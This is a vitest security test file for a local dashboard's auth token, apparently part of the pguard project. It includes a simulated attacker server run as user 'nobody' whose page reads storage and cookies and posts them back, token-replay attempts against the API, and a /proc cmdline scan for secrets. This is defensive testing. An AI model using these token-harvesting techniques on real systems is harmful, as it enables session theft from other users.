// The dashboard's token against another local user (issue 22, points 1-2): nobody runs a server on
// another port of 127.0.0.1, or reads every process's command line, and must get nothing to replay.
// As root, with nobody (setpriv --reuid=65534) as the attacker; skipped, saying so, otherwise. The
// browser is Debian's Chromium, driven by playwright-core (skipped, saying so, without it).
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { APPS } from '../helpers/run-cli.js';
import { startDashboard } from '../helpers/dashboard.js';
import { tmpRegistry } from '../helpers/tmp-registry.js';
import { waitFor } from '../helpers/wait-for.js';

const isRoot = process.getuid?.() === 0;
const CHROMIUM = process.env.PGUARD_CHROMIUM ?? '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
if (!isRoot) console.warn('dashboard attack tests skipped: they play another local user (nobody) and need root to do so');
else if (!hasChromium) console.warn(`dashboard attack tests skipped: no Chromium at ${CHROMIUM} (apt-get install chromium, or set PGUARD_CHROMIUM)`);
const forever = `sh ${APPS}forever.sh`;

const cleanups: (() => void)[] = [];
afterEach(() => { while (cleanups.length) cleanups.pop()!(); });

let browser: Browser;
beforeAll(async () => {
  if (!isRoot || !hasChromium) return;
  const { chromium } = await import('playwright-core');
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
});
afterAll(async () => { await browser?.close(); });

/** A folder nobody can write into (for what the attacker records). */
function sharedFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), 'pguard-attacker-'));
  chmodSync(dir, 0o777);
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** Run a shell command as nobody; its stdout. */
function asNobody(script: string): string {
  return execFileSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/bin/sh', '-c', script], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

/** Kill a child we started, its whole group (detached), by PID. */
function killGroup(child: ChildProcess): void {
  try { process.kill(-child.pid!, 'SIGKILL'); } catch { /* gone */ }
}

describe.skipIf(!isRoot || !hasChromium)('the dashboard token against another local user', () => {
  it('no other server on 127.0.0.1 ever receives it: no cookie is sent to another port, and that port\'s page cannot read it (point 1)', async () => {
    const t = tmpRegistry({ payroll: { command: forever } });
    await t.cli(['start', 'payroll']);
    const d = await startDashboard(t);
    const loot = sharedFolder();
    // nobody's server: records every request's headers, and serves a page that looks for the token
    // where the dashboard's page keeps it, then replays whatever it found as the dashboard's token.
    const attacker = spawn('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '-e', `
      const fs = require('fs');
      const page = '<script>fetch("/found", { method: "POST", body: JSON.stringify({ session: sessionStorage.getItem("pguard_token"), local: localStorage.getItem("pguard_token"), cookie: document.cookie }) }).then(() => { document.title = "done"; });</script>';
      require('http').createServer((req, res) => {
        let body = '';
        req.on('data', (c) => { body += c; });
        req.on('end', () => {
          fs.appendFileSync(${JSON.stringify(join(loot, 'requests'))}, JSON.stringify({ url: req.url, headers: req.headers, body }) + '\\n');
          res.writeHead(200, { 'content-type': 'text/html' });
          res.end(page);
        });
      }).listen(0, '127.0.0.1', function () { console.log(this.address().port); });
    `], { stdio: ['ignore', 'pipe', 'inherit'], detached: true });
    cleanups.push(() => killGroup(attacker));
    const port = await waitFor(() => new Promise<number | null>((r) => attacker.stdout!.once('data', (b: Buffer) => r(Number(b.toString().trim())))), { what: "nobody's server" });

    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(d.url);
    await page.locator('#live', { hasText: 'live' }).waitFor();
    await page.locator('tr[data-process="payroll"]').waitFor();
    expect(page.url()).not.toContain(d.token);
    // The user follows a link to another local server (or a page makes the browser ask it for something).
    await page.goto(`http://127.0.0.1:${port}/`);
    await page.waitForFunction(() => document.title === 'done');
    const seen = readFileSync(join(loot, 'requests'), 'utf8');
    expect(seen).toContain('/found');
    expect(seen).not.toContain(d.token);
    expect(seen).not.toContain('pguard_token=');
    // Even what nobody saw, replayed as the token, opens nothing: payroll keeps running.
    for (const line of seen.trim().split('\n')) {
      const r = JSON.parse(line) as { headers: Record<string, string>; body: string };
      const found = r.body ? Object.values(JSON.parse(r.body) as Record<string, string | null>).filter((v): v is string => !!v) : [];
      for (const guess of [...found, ...(r.headers.cookie ?? '').split(/[;=]\s*/)]) {
        const res = await fetch(`${d.base}/api/processes/payroll/stop`, { method: 'POST', headers: { authorization: `Bearer ${guess}` } });
        expect(res.status).toBe(401);
      }
    }
    // Back on the dashboard (a new page load, same tab): the token is still there for it, and only for it.
    await page.goto(`${d.base}/`);
    await page.locator('#live', { hasText: 'live' }).waitFor();
    expect(await page.locator('tr[data-process="payroll"]').getAttribute('data-status')).toBe('running');
    await context.close();
    expect((await t.status('payroll')).status).toBe('running');
  });

  it('--open puts no token on any command line: the browser gets a private hand-over page, removed once used (point 2)', async () => {
    const t = tmpRegistry({ payroll: { command: forever } });
    await t.cli(['start', 'payroll']);
    // An opener that stays alive with its arguments, as a browser does: nobody scans every
    // process's command line meanwhile, as it could for the browser's.
    const bin = sharedFolder();
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\necho $$ > ${bin}/pid\nprintf '%s\\n' "$@" > ${bin}/args\nexec sleep 60\n`, { mode: 0o755 });
    cleanups.push(() => { try { process.kill(Number(readFileSync(join(bin, 'pid'), 'utf8')), 'SIGKILL'); } catch { /* gone */ } });
    const d = await startDashboard({ ...t, env: { ...t.env, PATH: `${bin}:${process.env.PATH}` } }, ['--open']);
    const arg = (await waitFor(() => (existsSync(join(bin, 'args')) ? readFileSync(join(bin, 'args'), 'utf8') : null), { what: 'the opener to run' })).trim();
    await waitFor(() => readFileSync(`/proc/${readFileSync(join(bin, 'pid'), 'utf8').trim()}/cmdline`, 'utf8').includes('sleep') || null, { what: 'the opener to settle' });
    const everyCmdline = asNobody('for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$f"; echo; done 2>/dev/null');
    expect(everyCmdline).toContain('sleep 60');
    expect(everyCmdline).not.toContain(d.token);
    expect(arg).not.toContain(d.token);
    // What it was given: a page of the user's own, that no one else can read.
    expect(arg.startsWith(`${t.stateDir}/`)).toBe(true);
    const st = statSync(arg);
    expect([st.uid, st.mode & 0o777]).toEqual([0, 0o600]);
    expect(() => asNobody(`cat '${arg}'`)).toThrow();
    // In a real browser it leads to the dashboard, which works, with the token gone from the address.
    const page = await browser.newPage();
    await page.goto(`file://${arg}`);
    await page.locator('#live', { hasText: 'live' }).waitFor();
    expect(await page.locator('tr[data-process="payroll"]').getAttribute('data-status')).toBe('running');
    expect(page.url()).toBe(`${d.base}/`);
    // Used once: the hand-over page is gone.
    await waitFor(() => !existsSync(arg) || null, { what: 'the hand-over page to be removed' });
    await page.close();
  });
});
